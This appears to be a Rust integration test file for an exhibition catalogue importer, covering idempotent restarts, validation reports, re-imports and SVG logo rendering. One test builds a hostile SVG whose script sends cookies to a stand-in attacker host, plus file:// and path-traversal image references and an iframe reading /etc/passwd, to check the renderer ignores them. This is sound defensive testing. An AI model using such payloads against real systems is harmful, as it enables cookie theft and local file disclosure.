//! Importing the catalogue: idempotent restarts, one report for every problem, explicit
//! re-import of edits, and logos that try to do more than draw.

use std::fs;

use axum::http::StatusCode;
use pavilion_model::{ExhibitorDetail, HallSnapshot};
use pavilion_server::Error;
use pavilion_server::store::Store;
use resvg::tiny_skia::{Color, Pixmap};

use crate::{FIXTURE_SIZE, KESTREL, fixture_catalogue, spawn_app, spawn_app_with, write_profile};

#[tokio::test]
async fn a_second_start_changes_nothing() {
    let app = spawn_app().await;
    let counts = app.state.store().row_counts().await.unwrap();
    assert_eq!(counts.exhibitors, FIXTURE_SIZE as i64);
    assert_eq!(counts.snapshots, 1);
    assert_eq!(counts.layout_drafts, 1);
    let etag = app.get("/api/v1/hall").await.header("etag").to_owned();

    let app = app.restart().await;
    assert_eq!(app.state.published().version, 1);
    assert_eq!(app.state.store().row_counts().await.unwrap(), counts);
    assert_eq!(app.get("/api/v1/hall").await.header("etag"), etag);
}

#[tokio::test]
async fn an_invalid_profile_fails_the_whole_import_with_one_report() {
    let catalogue = fixture_catalogue();
    write_profile(catalogue.path(), "broken-booth", "Broken Booth", None);
    let profile_path = catalogue.path().join("broken-booth/profile.toml");
    let profile = fs::read_to_string(&profile_path)
        .unwrap()
        .replace("topic = \"cryptography\"", "topic = \"gardening\"")
        .replace(
            "tagline = \"Fixtures that hold their shape under any test\"\n",
            "",
        );
    fs::write(&profile_path, profile).unwrap();
    fs::create_dir(catalogue.path().join("half-written")).unwrap();

    let Err((error, data)) = spawn_app_with(catalogue).await else {
        panic!("an invalid catalogue must not import");
    };
    assert!(matches!(error, Error::InvalidCatalogue(_)), "{error:?}");
    let report = error.to_string();
    assert!(
        report.contains("broken-booth: tagline: is missing"),
        "{report}"
    );
    assert!(
        report.contains("broken-booth: topic: unknown topic \"gardening\""),
        "{report}"
    );
    assert!(
        report.contains("half-written: profile.toml: is missing"),
        "{report}"
    );
    assert!(
        report.contains("half-written: logo.svg: is missing"),
        "{report}"
    );
    assert!(report.contains("nothing was imported"), "{report}");

    let store = Store::open(data.path()).await.unwrap();
    assert_eq!(store.exhibitor_count().await.unwrap(), 0);
    assert!(!data.path().join("media").exists(), "no media written");
}

#[tokio::test]
async fn an_edited_profile_is_picked_up_only_by_an_explicit_import() {
    let app = spawn_app().await;
    let profile_path = app.catalogue.path().join(KESTREL).join("profile.toml");
    let original = fs::read_to_string(&profile_path).unwrap();
    let tagline_line = original
        .lines()
        .find(|l| l.starts_with("tagline = "))
        .unwrap()
        .to_owned();
    let edited = original.replace(&tagline_line, "tagline = \"Edited for the re-import test\"");
    fs::write(&profile_path, edited).unwrap();
    write_profile(app.catalogue.path(), "late-arrival", "Late Arrival", None);

    let app = app.restart().await;
    let detail = |body: &[u8]| serde_json::from_slice::<ExhibitorDetail>(body).unwrap();
    let before = detail(&app.get(&format!("/api/v1/exhibitors/{KESTREL}")).await.body);
    assert_ne!(
        before.tagline, "Edited for the re-import test",
        "a restart must not re-import"
    );
    assert_eq!(
        app.get("/api/v1/exhibitors/late-arrival").await.status,
        StatusCode::NOT_FOUND
    );

    let report = app.state.reimport(app.catalogue.path()).await.unwrap();
    assert_eq!(report.updated, [KESTREL]);
    assert_eq!(report.added, ["late-arrival"]);
    assert_eq!(report.unchanged, FIXTURE_SIZE - 1);
    assert_eq!(report.published_version, Some(2));
    assert!(
        report.to_string().contains("1 added, 1 updated"),
        "{report}"
    );

    let after = detail(&app.get(&format!("/api/v1/exhibitors/{KESTREL}")).await.body);
    assert_eq!(after.tagline, "Edited for the re-import test");
    let snapshot: HallSnapshot =
        serde_json::from_slice(&app.get("/api/v1/hall").await.body).unwrap();
    assert_eq!(snapshot.version, 2);
    assert_eq!(snapshot.booth_count(), FIXTURE_SIZE + 1);

    let again = app.state.reimport(app.catalogue.path()).await.unwrap();
    assert!(!again.changed_anything());
    assert_eq!(again.published_version, None);
    assert_eq!(app.state.published().version, 2);
}

/// A red PNG beside the logo: if any of it shows up in the rendering, a file was read.
fn red_png() -> Vec<u8> {
    let mut pixmap = Pixmap::new(8, 8).unwrap();
    pixmap.fill(Color::from_rgba8(255, 0, 0, 255));
    pixmap.encode_png().unwrap()
}

#[tokio::test]
async fn logos_with_scripts_and_external_images_render_safely() {
    let catalogue = fixture_catalogue();
    let png_path = catalogue.path().join("red.png");
    fs::write(&png_path, red_png()).unwrap();
    let hostile = format!(
        r##"<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" viewBox="0 0 640 160">
  <script>fetch('https://evil.example/?c=' + document.cookie)</script>
  <rect x="0" y="0" width="200" height="160" fill="#00aa00" onload="alert(1)"/>
  <image x="200" y="0" width="440" height="160" href="file://{path}"/>
  <image x="200" y="0" width="440" height="160" xlink:href="{path}"/>
  <image x="200" y="0" width="440" height="160" href="../red.png"/>
  <foreignObject x="0" y="0" width="640" height="160"><iframe xmlns="http://www.w3.org/1999/xhtml" src="file:///etc/passwd"/></foreignObject>
</svg>"##,
        path = png_path.display()
    );
    write_profile(
        catalogue.path(),
        "sneaky-logo",
        "Sneaky Logo",
        Some(&hostile),
    );

    let app = spawn_app_with(catalogue)
        .await
        .map_err(|(e, _)| e)
        .expect("a hostile logo still imports");
    let snapshot: HallSnapshot =
        serde_json::from_slice(&app.get("/api/v1/hall").await.body).unwrap();
    let logo = app
        .get(&snapshot.exhibitor("sneaky-logo").unwrap().logo_url)
        .await;
    assert_eq!(logo.header("content-type"), "image/png");
    let pixmap = Pixmap::decode_png(&logo.body).unwrap();
    let pixels = pixmap.pixels();
    assert!(
        pixels.iter().any(|p| p.green() > 100 && p.red() < 50),
        "the safe part is drawn"
    );
    assert!(
        !pixels
            .iter()
            .any(|p| p.red() > 200 && p.green() < 50 && p.alpha() > 200),
        "an image file was read"
    );
}

#[tokio::test]
async fn a_logo_that_draws_nothing_safe_is_refused_with_a_clear_message() {
    let catalogue = fixture_catalogue();
    let only_image = r##"<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 640 160"><image width="640" height="160" href="data:image/png;base64,iVBORw0KGgo="/></svg>"##;
    write_profile(
        catalogue.path(),
        "image-only",
        "Image Only",
        Some(only_image),
    );
    let Err((error, _data)) = spawn_app_with(catalogue).await else {
        panic!("a logo with nothing to draw must be refused");
    };
    let report = error.to_string();
    assert!(
        report.contains("image-only: logo.svg: the SVG draws nothing visible"),
        "{report}"
    );
}
